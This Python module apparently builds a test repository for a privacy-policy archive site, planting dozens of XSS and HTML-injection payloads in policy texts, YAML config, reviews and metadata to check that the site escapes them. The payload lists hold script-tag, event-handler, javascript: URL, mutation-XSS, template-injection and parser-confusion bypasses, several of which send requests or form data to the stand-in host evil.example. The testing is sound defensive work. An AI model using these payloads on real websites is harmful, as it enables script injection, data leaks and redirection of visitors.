"""A repository whose contributors want something of theirs to run: hostile text in every place that takes text."""

from __future__ import annotations

import hashlib
from pathlib import Path

from builders.repository import invented, put

#: Each would set ``ran``, open a dialog, ask another host or leave the page, if any of it were ever taken for markup.
PAYLOADS = (
    "<script>window.ran = 1; alert(1)</script>",
    "</script><script>window.ran = 2</script>",
    "</title></style></textarea><script>window.ran = 3</script>",
    "<img src=x onerror='window.ran = 4'>",
    '"><img src=x onerror=alert(5)><input value="',
    "' autofocus onfocus='alert(6)",
    "<svg onload='window.ran = 7'><animate onbegin=alert(7) attributeName=x></animate></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(8)>'>",
    "<a href='javascript:window.ran = 9'>nine</a>",
    "<a href='jAvAsCrIpT&colon;alert(10)'>ten</a>",
    "<a href='data:text/html,<script>alert(11)</script>'>eleven</a>",
    "<a href='vbscript:alert(12)'>twelve</a>",
    "<iframe srcdoc='<script>parent.ran = 13</script>'></iframe>",
    "<object data='https://evil.example/14'></object><embed src='https://evil.example/14'>",
    "<link rel=stylesheet href='https://evil.example/15.css'><style>@import 'https://evil.example/15';</style>",
    "<p style='background: url(https://evil.example/16)'>x</p>",
    "<form action='javascript:alert(17)'><button>seventeen</button></form>",
    "<details open ontoggle='window.ran = 18'>x</details>",
    "<base href='https://evil.example/19/'>",
    "[twenty](javascript:alert(20)) ![p](https://evil.example/20.png) <javascript:alert(20)>",
    '[x]: javascript:alert(21) "t"',
    "{{ 7 * 191 }} {% raw %} {{ config.__class__ }} {# x #}",
    "{: onclick=alert(23) } {#sp-top onmouseover=alert(23)}",
    "&lt;script&gt;window.ran = 24&lt;/script&gt; &#60;img src=x onerror=alert(24)&#62;",
    "--><script>window.ran = 25</script><!-- ]]><script>window.ran = 25</script>",
    "`code` *x* **y** <!-- ```<script>window.ran = 26</script>``` ~~~",
    "\\u003cscript\\u003ewindow.ran = 27\\u003c/script\\u003e '+alert(27)+' \\x3cscript\\x3e",
    "</mark></p></div></article><script>window.ran = 28</script>",
    '--8<-- "mkdocs.yml" :material-cookie: [[toc]] [TOC] [^1] *[HTML]: x',
)
#: Only one that leads away by itself, which no policy of the browser forbids.
REFRESH = "<meta http-equiv=refresh content='0; url=https://evil.example/29'>"
SHORT = "<img src=x onerror=alert(0)>"
#: A policy whose captured text is also a script, and where the site offers it.
SCRIPT = "top.ran = 30; /* Privacy at Script */\n\n/* We never sell your personal data to anyone. */\n"
CAPTURED = "snapshots/hostile-js/undated-1.txt"
OUT = "https://evil.example"
#: What a page by hand may try, by its kind. Add a kind here, and every wall for pages is tried with it.
BY_HAND = {
    # a captured text as a script, by addresses that look like those of our own
    "query": f'<script src="{CAPTURED}?assets/"></script>',
    "fragment": f'<script src="{CAPTURED}#assets/search.js"></script>',
    "dots": f'<script src="assets/../{CAPTURED}"></script>',
    "encoded dots": f'<script src="assets/%2e%2e/{CAPTURED}"></script>',
    "backslashes": "<script src='assets\\..\\snapshots\\hostile-js\\undated-1.txt'></script>",
    "tab": f'<script src="assets/.&Tab;./{CAPTURED}"></script>',
    "space": f'<script src=" {CAPTURED}?assets/search.js "></script>',
    "other letters": f'<SCRIPT SRC="{CAPTURED}?ASSETS/"></SCRIPT >',
    "module": f'<script type="module" src="{CAPTURED}?assets/"></script>',
    "drawing's script": f'<svg><script href="{CAPTURED}?assets/"></script></svg>',
    "drawing's old script": f'<svg><script xlink:href="{CAPTURED}?assets/"></script></svg>',
    "shadow": f'<div><template shadowrootmode=open><script src="{CAPTURED}?assets/"></script></template></div>',
    "style in a drawing": f'<svg><style><p><script src="{CAPTURED}?assets/"></script>',
    "title in a drawing": f'<svg><title><p><script src="{CAPTURED}?assets/"></script>',
    "scripts off, attribute": f'<noscript><p title="</noscript><script src={CAPTURED}></script>">x</p></noscript>',
    "scripts off, open quote": f"""<noscript><a title='></noscript><script src="{CAPTURED}"></script><p id='x'>""",
    "scripts off, comment": f"<noscript><!-- </noscript><script src={CAPTURED}></script> --></noscript>",
    "scripts off, style": f"<noscript><style></noscript><script src={CAPTURED}></script></style></noscript>",
    "comment that is none": f"<div><!--><script src={CAPTURED}></script>--></div>",
    "data section": f"<div><![CDATA[><script src={CAPTURED}></script>]]></div>",
    "text field": f"<div><textarea><p title='</textarea><script src={CAPTURED}></script>'></div>",
    "plain frame": f"<div><iframe><p title='</iframe><script src={CAPTURED}></script>'></div>",
    "two of a name": f'<script src="assets/search.js" src="{CAPTURED}"></script>',
    # what leads away, or moves every address
    "refresh": f"<meta http-equiv=refresh content='0; url={OUT}/r1'>",
    "refresh without url": f"<meta http-equiv='Refresh' content='0;{OUT}/r2'>",
    "refresh, scripts off": f"<noscript><meta http-equiv=refresh content='0;{OUT}/r3'></noscript>",
    "refresh in a shadow": "<div><template shadowrootmode=open>"
    f"<meta http-equiv=refresh content='0;{OUT}/r4'></template></div>",
    "refresh behind a style": f"<noscript><style></noscript><meta http-equiv=refresh content='0;{OUT}/r5'></style>",
    "base": f"<base href='{OUT}/'>",
    # what loads
    "alternate sheet": f'<link rel="alternate stylesheet" title=x href="{OUT}/l1.css">',
    "help that is fetched": f'<link rel="help prefetch" href="{OUT}/l2">',
    "link's pictures": f'<link rel=preload as=image imagesrcset="{OUT}/l3.png 1x">',
    "module ahead": f'<link rel=modulepreload href="{OUT}/l4.js">',
    "manifest": f'<link rel=manifest href="{OUT}/l5">',
    "connection": f'<link rel="preconnect dns-prefetch" href="{OUT}">',
    "page ahead": f'<link rel="next prerender" href="{OUT}/l6">',
    "picture of the tab": f'<link rel="shortcut icon" href="{OUT}/l7.png">',
    "captured sheet": f'<link rel=stylesheet href="{CAPTURED}?assets/smallprint.css">',
    "guesses": f'<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["{OUT}/s"]}}]}}</script>',
    "names of modules": f'<script type=importmap>{{"imports": {{"x": "{OUT}/m.js"}}}}</script>',
    "picture": f'<img src="{OUT}/i1.png" alt=x>',
    "picture without scheme": '<img src="//evil.example/i2.png" alt=x>',
    "picture with backslashes": "<img src='\\\\evil.example\\i3.png' alt=x>",
    "pictures": f'<img srcset="{OUT}/i4.png 1x, {OUT}/i5.png 2x" alt=x>',
    "picture's source": f'<picture><source srcset="{OUT}/i6.png"><img alt=x></picture>',
    "who saw a picture": f'<img attributionsrc="{OUT}/i7" src=x.png alt=x>',
    "button that is a picture": f'<input type=image src="{OUT}/i8.png" alt=x>',
    "film": f'<video poster="{OUT}/v1.png" src="{OUT}/v2.webm"><track default src="{OUT}/v3.vtt"></video>',
    "sound": f'<audio autoplay><source src="{OUT}/a1.ogg"></audio>',
    "object": f'<object data="{OUT}/o1"><param name=movie value="{OUT}/o2"></object>',
    "embedded": f'<embed src="{OUT}/o3">',
    "applet": f'<applet code=x codebase="{OUT}/o4" archive="{OUT}/o5.jar"></applet>',
    "frame": f'<iframe src="{OUT}/f1"></iframe>',
    "frame with its page": f"<iframe srcdoc='<script src={CAPTURED}></script>'></iframe>",
    "fenced frame": f'<fencedframe src="{OUT}/f2"></fencedframe><portal src="{OUT}/f3"></portal>',
    "background": f'<table background="{OUT}/b1.png"><tr><td background="{OUT}/b2.png">x</td></tr></table>',
    "background of all": f'<body background="{OUT}/b3.png">',
    "style": f"<p style='background: url({OUT}/c1.png)'>x</p>",
    "style without url": f"<p style='background: image-set(\"{OUT}/c2.png\" 1x)'>x</p>",
    "style sheet": f"<style>@import '{OUT}/c3.css'; p {{ background: \\75rl({OUT}/c4.png) }}</style>",
    "drawn picture": f'<svg><image href="{OUT}/d1.png"/><image xlink:href="{OUT}/d2.png"/></svg>',
    "drawing of another": f'<svg><use href="{OUT}/d3.svg#x"/></svg>',
    "filter": f'<svg><filter id=f><feImage href="{OUT}/d4.png"/></filter><rect filter="url(#f)" width=9 height=9 />',
    "fill": f'<svg><rect width=9 height=9 fill="url({OUT}/d5.svg#x)" mask="url({OUT}/d6.svg#x)"/></svg>',
    "page in a drawing": f"<svg><foreignObject><iframe srcdoc='<script src={CAPTURED}></script>'></iframe>",
    # what tells another host when somebody clicks, or sends what is typed
    "told of a click": f'<a href="about.html" ping="{OUT}/p1" attributionsrc="{OUT}/p2">x</a>',
    "form": f'<form action="{OUT}/p3"><input name=q><button>x</button></form>',
    "button with its own form": f'<form><button formaction="{OUT}/p4">x</button></form>',
    "field with its own form": f'<form><input type=submit formaction="{OUT}/p5"></form>',
    "form that closes": "<form method=dialog><button>x</button></form>",
    "map": f'<img usemap="#m" alt=x><map name=m><area href="javascript:window.ran=31" ping="{OUT}/p6"></map>',
    "referrer": "<meta name=referrer content=unsafe-url>",
    "cookie": "<meta http-equiv=set-cookie content='a=b'>",
    # what runs
    "drawn link": "<svg><a xlink:href='javascript:window.ran=32'><text y=9>x</text></a></svg>",
    "moved address": "<svg><a><animate attributeName=href values='javascript:window.ran=33' /><text>x</text></a></svg>",
    "set address": "<svg><a><set attributeName=href to='javascript:window.ran=34' /><text y=9>x</text></a></svg>",
    "formula": "<math><mtext href='javascript:window.ran=35'>x</mtext></math>",
    "handler": "<p onclick='window.ran=36'>x</p>",
    "handler of a letter case": "<p OnMouseOver='window.ran=37'>x</p>",
    "popover's handler": "<div popover onbeforetoggle='window.ran=38'>x</div>",
    "sheet of words": "<xmp><p title='</xmp><img src=x onerror=window.ran=39>'></xmp>",
    "formula in a formula": PAYLOADS[7],
    # by the marks of Markdown
    "attribute list": "word\n{: onclick=window.ran=40 }",
    "style list": f'word\n{{: style="background:url({OUT}/m1.png)" }}',
    "link": "[x](javascript:window.ran=41)",
    "link by name": "[x][y]\n\n[y]: javascript:window.ran=42",
    "link in brackets": "<javascript:window.ran=43>",
    "picture by marks": f"![x]({OUT}/m2.png)",
    "data": "[x](data:text/html,<script>window.ran=44</script>)",
}


def hostile(folder: Path) -> Path:
    """Make the folder a repository with hostile policies, in text, Markdown, HTML and as a script, and practices."""
    root = invented(folder)
    put(root, "content/policies/hostile-js/undated-1.txt", SCRIPT)
    put(
        root,
        "content/policies/hostile-js/service.md",
        "---\nname: Script\nlang: en\nsnapshots:\n  - file: undated-1.txt\n    captured: unknown\n    source: unknown\n"
        f"    sha256: {hashlib.sha256(SCRIPT.encode()).hexdigest()}\n---\n",
    )
    for format in ("txt", "md", "html"):
        _service(root, format)
    practice = root / "site_config/practices/sells-data.yml"
    text = practice.read_text()
    for field in ("question", "explanation", "definition"):
        old = next(line for line in text.splitlines() if line.startswith(f"{field}: "))
        text = text.replace(old, f"{field}: {_quoted(f'{PAYLOADS[0]} Is it? {SHORT} {{{{ 7 * 191 }}}} It is.')}")
    text = text.replace("label: Sells personal data", f"label: {_quoted('<svg/onload=alert(1)> Sells')}")
    text = text.replace("  absent: Does not sell", f"  absent: {_quoted(SHORT + ' not')} #")
    practice.write_text(text.replace("- name: we-sell", f"- name: {_quoted(SHORT)}"))
    for name, field in (("categories", "label: Sharing"), ("categories", "question: What else?")):
        file = root / f"site_config/{name}.yml"
        file.write_text(file.read_text().replace(field, f"{field.partition(':')[0]}: {_quoted(SHORT)}"))
    cooked = ("=1+1", f"x:{SHORT}", f'x:a"onclick=alert(1) {PAYLOADS[0]}', "{{ 7 * 191 }}")
    head = f'name: {SHORT}\naddress: https://example.org/"{SHORT}\nprefix: x https://example.org/"{SHORT}#\n\n'
    put(root, "site_config/vocabularies/hostile.txt", head + "\n".join(cooked) + "\n")
    text = practice.read_text()
    terms = "".join(f"    - {_quoted(term)}\n" for term in cooked)
    practice.write_text(text.replace("crosswalk:\n", f"crosswalk:\n  hostile:\n{terms}"))
    words = root / "site_config/words.yml"
    words.write_text(words.read_text().replace("label: by law", f"label: {_quoted(SHORT)}"))
    put(root, "site_config/kinds.yml", f"hostile: {{one: {_quoted(SHORT)}, many: {_quoted(PAYLOADS[4])}}}\n")
    put(
        root,
        "site_config/accuracy.yml",
        f"- texts: {_quoted(PAYLOADS[4])}\n  policies: 1\n  program: {_quoted(SHORT)}\n  date: 2020-01-02\n"
        "  closed: false\n  practices:\n    sells-data: {right: 1, wrong: 0, missed: 0}\n",
    )
    return root


def _service(root: Path, format: str) -> None:
    """One policy that holds every payload as heading, paragraph, list item and evidence."""
    parts: list[str] = []
    for payload in (*PAYLOADS, REFRESH):
        safe = payload.replace("&", "&amp;").replace("<", "&lt;")
        if format == "html":
            said = (f"<h2>{safe}</h2>", f"<p>We never sell your personal data {safe} to anyone.</p>",
                    f"<ul><li>{safe} cookies</li></ul>", f"<table><tr><td>a</td><td>{safe}</td></tr>"
                    f"<tr><td>b</td><td>{safe}</td></tr></table>", f"<p>{payload} raw</p>")  # fmt: skip
        else:
            mark = "## " if format == "md" else ""
            said = (
                f"{mark}{payload}\n",
                f"We never sell your personal data {payload} to anyone.\n",
                f"- {payload} cookies\n- {safe} cookies\n",
                f"| a | {payload} |\n| - | - |\n| b | {payload} |\n",
            )
        parts += said
    policy = ("\n".join(parts)).encode()
    id = f"hostile-{format}"
    note = (
        "\n\n".join(PAYLOADS) + "\n\n[fine](https://example.org/) [data](data:image/png;base64,AAAA) [ftp](ftp://x.org)"
    )
    older = policy.replace(b"never sell", b"gladly sell").replace(b" cookies", b" biscuits, as all do who bake")
    put(root, f"content/policies/{id}/undated-1.{format}", older)
    put(root, f"content/policies/{id}/undated-2.{format}", policy)
    put(root, f"content/policies/{id}/undated-3.{format}", terms := older.replace(b"bake", b"bake here"))
    put(root, f"content/policies/{id}/undated-4.{format}", old_terms := policy.replace(b"never sell", b"hardly sell"))
    put(
        root,
        f"content/policies/{id}/service.md",
        f"---\nname: {_quoted(f'{SHORT} {format} {{{{ 7 * 191 }}}} [x](javascript:alert(1)) {{: onclick=alert(1)}}')}\n"
        f'lang: en\nwebsite: "https://{format}.example.com/?a=1&b=<script>"\n'
        f"attribution: {_quoted(SHORT)}\nkind: hostile\nwhat: {_quoted(PAYLOADS[0])}\nowner: {_quoted(SHORT)}\n"
        f"also: [{_quoted(PAYLOADS[5])}, {_quoted('constructor')}]\ndomains: [xn--hostile-{format}.example]\n"
        f"countries: [{_quoted(PAYLOADS[3])}]\nsnapshots:\n"
        f"  - file: undated-2.{format}\n    captured: unknown\n    dated: 2021-01-01\n    source: unknown\n"
        f"    sha256: {hashlib.sha256(policy).hexdigest()}\n    record: {_quoted(SHORT)}\n"
        f"  - file: undated-1.{format}\n    captured: unknown\n    source: unknown\n"
        f"    sha256: {hashlib.sha256(older).hexdigest()}\n    record: {_quoted(SHORT)}\n"
        f"  - file: undated-3.{format}\n    terms: terms-of-service\n    captured: 2021-02-02\n"
        f"    source: unknown\n    sha256: {hashlib.sha256(terms).hexdigest()}\n    record: {_quoted(SHORT)}\n"
        f"  - file: undated-4.{format}\n    terms: terms-of-service\n    captured: 2021-01-01\n"
        f"    source: unknown\n    sha256: {hashlib.sha256(old_terms).hexdigest()}\n"
        f"---\n{note}\n".replace('<script>"', '(javascript:x)"'),
    )
    put(
        root,
        f"content/policies/{id}/reviews.yml",
        f"- practice: sells-data\n  outcome: absent\n  quote: We never sell your personal data\n"
        f"  because: {_quoted(' '.join(PAYLOADS[:8]))}\n  reviewer: {_quoted(SHORT)}\n  date: 2020-01-02\n"
        f"  disputed: {{by: {_quoted(SHORT)}, date: 2020-01-03, note: {_quoted(' '.join(PAYLOADS[8:]))}}}\n"
        f"- practice: uses-cookies\n  disputed:\n    by: {_quoted(PAYLOADS[5])}\n    date: 2020-01-03\n"
        f"    note: {_quoted(PAYLOADS[0])}\n    link: 'https://example.org/?a=1&b=(javascript:x)'\n",
    )


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"
